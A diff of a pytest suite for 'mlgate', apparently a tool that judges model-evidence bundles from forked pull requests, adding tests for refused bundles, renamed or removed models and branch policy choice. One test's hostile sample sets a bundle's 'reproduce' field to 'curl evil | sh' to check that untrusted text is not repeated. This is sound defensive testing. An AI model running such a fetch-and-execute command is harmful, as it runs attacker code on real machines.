@@ -12,6 +12,7 @@ import zipfile
 import hostile
 import make_whole
 import pytest
+from checkout import checkout, git
 
 from mlgate import config
 from mlgate.checks import evidence_types, sections
@@ -20,7 +21,12 @@ from mlgate.errors import DataError, UsageError
 from mlgate.model.evidence import Evidence
 from mlgate.pipeline.context import Context
 from mlgate.pipeline.publishing.bundle import pack
-from mlgate.pipeline.publishing.trusted_stage import ExpectedRun, take, write
+from mlgate.pipeline.publishing.trusted_stage import (
+    ExpectedRun,
+    RefusedBundleError,
+    take,
+    write,
+)
 from mlgate.progress import Silent
 from mlgate.run_dir import RunDir
 
@@ -47,10 +53,15 @@ def nested(content: bytes, name: str = "mlgate-bundle.zip") -> bytes:
 
 
 @pytest.fixture
-def fork(local_github, run_dir):
+def clone(local_github, tmp_path):
+    """The trusted job's checkout; give the clone of whoever changes the repository."""
+    return checkout(tmp_path / "trusted", local_github, POLICY)
+
+
+@pytest.fixture
+def fork(local_github, run_dir, clone):
     """A pull request from a fork whose workflow has uploaded a bundle; give what to change."""
     repo, ids = local_github.repo, itertools.count(501)
-    repo.commit("main", "A policy", {"mlgate.yaml": POLICY.encode()})
     repo.issues[1].pull.head_repository = FORK
     digest = config.parse(POLICY, "mlgate.yaml", sections()).config.policy_digest()
 
@@ -82,12 +93,11 @@ def fork(local_github, run_dir):
 
 
 @pytest.fixture
-def taken(local_github, tmp_path):
+def taken(local_github, tmp_path, clone):
     """Take a run's bundle in a folder that holds nothing else."""
     context = Context(
         cwd=tmp_path / "trusted", environ={}, progress=Silent(), console=io.StringIO(), now=NOW
     )
-    context.cwd.mkdir()
 
     def take_it(run, **expected):
         wanted = ExpectedRun(run, **expected)
@@ -107,7 +117,7 @@ def test_a_forks_numbers_are_judged_by_the_base_branchs_policy_and_marked(fork, 
     assert "computed by the pull request's own workflow in mallory/model" in text
     assert "which could have made them up" in text
     assert (found.dir.path / "plots").is_dir()
-    assert sorted(p.name for p in (tmp_path / "trusted").iterdir()) == [".mlgate"]
+    assert sorted(p.name for p in (tmp_path / "trusted").iterdir()) == [".git", ".mlgate"]
 
 
 def test_a_policy_that_the_fork_made_up_judges_nothing_more_lenient(fork, taken):
@@ -204,6 +214,40 @@ def test_a_missing_or_foreign_artifact_is_told(fork, taken):
         taken(fork(content=nested(b"x", "evil.txt")))
 
 
+def test_a_refused_bundle_says_whose_status_must_not_stand(fork, taken, local_github):
+    with pytest.raises(RefusedBundleError) as refused:
+        taken(fork(content=b"hello"))
+    assert (refused.value.name, refused.value.sha) == ("income", local_github.head)
+
+
+def test_a_model_keeps_its_name_and_a_change_of_it_is_the_verdict(fork, taken, clone):
+    clone.write(POLICY.replace("income", "other"), branch="feature")
+    found = taken(fork("passing"))
+    assert found.judged.run.name == "income"
+    assert found.judged.verdict.verdict == "error"
+    assert "renames the model income to other" in found.judged.verdict.headline
+
+
+def test_a_removed_model_is_reported_under_its_name(fork, taken, clone):
+    clone.write(None, branch="feature")
+    found = taken(fork("passing"))
+    assert (found.judged.run.name, found.judged.run.gone) == ("income", True)
+    assert found.judged.verdict.blocked
+
+
+def test_into_a_branch_that_main_does_not_list_mains_policy_judges(
+    fork, taken, clone, local_github
+):
+    git(clone.folder, "checkout", "--quiet", "-b", "loose", "main")
+    clone.write(POLICY.replace("0.01", "0.9"), branch="loose")
+    local_github.repo.issues[1].pull.base_branch = "loose"
+    found = taken(fork())
+    assert found.judged.run.judges[0].source == "main"
+    assert (found.judged.run.base_branch, found.judged.verdict.verdict) == ("loose", "fail")
+    clone.write(POLICY + "policy: {branches: [loose]}\n")
+    assert taken(fork()).judged.run.judges[0].source == "loose"
+
+
 def test_what_the_bundle_says_of_itself_is_not_repeated(fork, taken):
     evil = {
         "name": "other", "title": "EVIL", "reproduce": ("curl evil | sh",), "branch": "main",
@@ -220,9 +264,8 @@ def test_what_the_bundle_says_of_itself_is_not_repeated(fork, taken):
 def test_an_organisations_gates_judge_as_well(fork, local_github, tmp_path):
     policy = tmp_path / "organisation.yaml"
     policy.write_text("gates: {accuracy: {min: 0.999}}\n")
-    (tmp_path / "t").mkdir()
     context = Context(
-        cwd=tmp_path / "t", environ={}, progress=Silent(), console=io.StringIO(), now=NOW,
+        cwd=tmp_path / "trusted", environ={}, progress=Silent(), console=io.StringIO(), now=NOW,
         policies=(policy,),
     )  # fmt: skip
     run = fork("passing")
@@ -267,7 +310,7 @@ def test_inputs_that_the_fork_could_not_read_are_an_error_that_says_who_can(
 
 
 def test_numbers_that_contradict_one_another_are_refused_and_nothing_is_posted(
-    fork, taken, local_github
+    fork, taken, local_github, clone
 ):
     whole = hostile.samples()[-1]
     fairness = copy.deepcopy(whole["evidence/fairness.json"])
@@ -277,7 +320,6 @@ def test_numbers_that_contradict_one_another_are_refused_and_nothing_is_posted(
                 gap["rate"] = "a rate that there is not"
     files = {name: json.dumps(one) for name, one in whole.items()}
     files["evidence/fairness.json"] = json.dumps(fairness)
-    policy = make_whole.POLICY.encode()
-    local_github.repo.commit("main", "Ask for every check", {"mlgate.yaml": policy})
+    clone.write(make_whole.POLICY)
     with pytest.raises(DataError, match="contradict one another"):
         taken(fork(content=nested(hostile.packed(files))))
